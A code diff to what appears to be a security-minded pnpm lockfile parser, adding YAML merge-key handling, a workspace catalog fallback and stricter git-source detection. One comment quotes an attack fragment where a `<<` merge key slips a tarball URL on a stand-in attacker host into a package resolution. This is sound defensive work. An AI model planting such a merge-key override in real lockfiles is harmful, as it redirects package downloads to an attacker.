@@ -119,7 +119,8 @@ export function parsePnpm(file: string, text: string, options: ParseOptions = {}
       name,
       version,
       key,
-      line: pkgLines.get(key) ?? 1,
+      // A package a `<<` merge key brought in has no line of its own: the merge's line is where it is written.
+      line: pkgLines.get(key) ?? pkgLines.get('<<') ?? 1,
       ...(resolved !== undefined ? { resolved } : {}),
       ...(integrity !== undefined ? { integrity } : {}),
       source,
@@ -175,10 +176,11 @@ export function parsePnpm(file: string, text: string, options: ParseOptions = {}
     ...(missing.length > 0 ? { missingEntries: missing } : {}),
     catalogRange: (name, spec) => {
       // `catalog:` is the default catalog (`catalogs.default`), `catalog:x` the one named x (@pnpm/catalogs.protocol-parser).
+      const id = spec.slice('catalog:'.length).trim() || 'default';
       const catalogs = isRecord(data.catalogs) ? data.catalogs : {};
-      const catalog = catalogs[spec.slice('catalog:'.length).trim() || 'default'];
+      const catalog = catalogs[id];
       const entry = isRecord(catalog) ? catalog[name] : undefined;
-      return isRecord(entry) ? str(entry.specifier) : undefined;
+      return isRecord(entry) ? str(entry.specifier) : workspaceCatalogRange(options.pnpmWorkspace, id, name);
     },
     resolveDeclared: (importer, name) => {
       const ref = recorded.get(importer)?.get(name);
@@ -259,11 +261,20 @@ function nameAliases(nodes: DraftNode[], importers: readonly DraftImporter[]): v
  * The YAML as pnpm reads it (`@pnpm/lockfile.fs` `_read`, js-yaml `load`): a duplicate key is an error (js-yaml's
  * "duplicated mapping key"; pnpm says the lockfile is broken); aliases are shared, and past MAX_ALIAS_COUNT
  * expansions the file is refused as an alias bomb. `yaml`'s own duplicate check is quadratic per mapping, so it is
- * off and findYamlKeyProblem does it in linear time.
+ * off and findYamlKeyProblem does it in linear time. `load` uses js-yaml's DEFAULT_SCHEMA, which reads `<<` as a
+ * merge key (loader `storeMappingPair` → `mergeMappings`: the source's keys are copied in unless the mapping writes
+ * them): `resolution: {integrity: …, <<: {tarball: https://evil.example/…}}` downloads from that host, so the merge
+ * is applied here too, never read as a package or field named `<<`.
  */
 function loadPnpmYaml(file: string, text: string): Record<string, unknown> {
   const lineCounter = new LineCounter();
-  const doc = parseShallowYaml(text, { schema: 'core', prettyErrors: true, uniqueKeys: false, lineCounter });
+  const doc = parseShallowYaml(text, {
+    schema: 'core',
+    merge: true,
+    prettyErrors: true,
+    uniqueKeys: false,
+    lineCounter,
+  });
   const first = doc.errors[0];
   if (first !== undefined) {
     const line = first.linePos?.[0].line;
@@ -278,6 +289,13 @@ function loadPnpmYaml(file: string, text: string): Record<string, unknown> {
         'LOCKFILE_SYNTAX',
         file,
         `not a valid pnpm lockfile: duplicated mapping key ${JSON.stringify(clip(problem.key))}; pnpm refuses it`,
+        line,
+      );
+    if (problem.kind === 'bad-merge')
+      throw new LockfileError(
+        'LOCKFILE_SYNTAX',
+        file,
+        'not a valid pnpm lockfile: a YAML merge key (<<) whose value is not a mapping; pnpm refuses it',
         line,
       );
     throw new LockfileError(
@@ -451,6 +469,22 @@ function parseKey(key: string, major: number): { name: string; version: string; 
 }
 
 /**
+ * The range pnpm-workspace.yaml's catalog `id` gives `name` (`catalog` is the default catalog, `catalogs.<id>` the
+ * others: @pnpm/catalogs.config): what pnpm resolves a `catalog:` spec with when the lockfile records no `catalogs`
+ * entry for it (pnpm 9 does not hold a lockfile to config entries it lacks, pnpm-settings.ts `catalogMismatch`).
+ */
+function workspaceCatalogRange(
+  ws: Readonly<Record<string, unknown>> | undefined,
+  id: string,
+  name: string,
+): string | undefined {
+  if (ws === undefined) return undefined;
+  const catalog =
+    id === 'default' && isRecord(ws.catalog) ? ws.catalog : isRecord(ws.catalogs) ? ws.catalogs[id] : undefined;
+  return isRecord(catalog) ? str(catalog[name]) : undefined;
+}
+
+/**
  * What pnpm fetches for a `resolution` (`pkgSnapshotToResolution`, @pnpm/lockfile.utils): a `type`d, `file:` or
  * git-hosted one as written; any other `tarball` through `new URL(tarball, registry + '/')` against the package's
  * registry, so a tarball without a scheme is a download from the registry at that path ('registry';
@@ -470,7 +504,10 @@ function resolutionSource(res: Record<string, unknown>): { source: Source; resol
   }
   // No variant pnpm could read: a download from nowhere the lockfile pins (CPD008 says so), not a registry package.
   if (type === 'variations') return { source: 'tarball' };
-  if (type === 'git' || (str(res.repo) !== undefined && str(res.commit) !== undefined)) {
+  // Only `type` chooses the fetcher (@pnpm/pick-fetcher `pickFetcher`; lockfile.utils `pkgSnapshotToResolution`
+  // passes a typed resolution through as written): without it a `repo` and `commit` are ignored and pnpm downloads
+  // the `tarball`, or the registry's tarball of the entry's name and version.
+  if (type === 'git') {
     return { source: 'git', resolved: `git+${str(res.repo) ?? ''}#${str(res.commit) ?? ''}` };
   }
   const tarball = str(res.tarball);
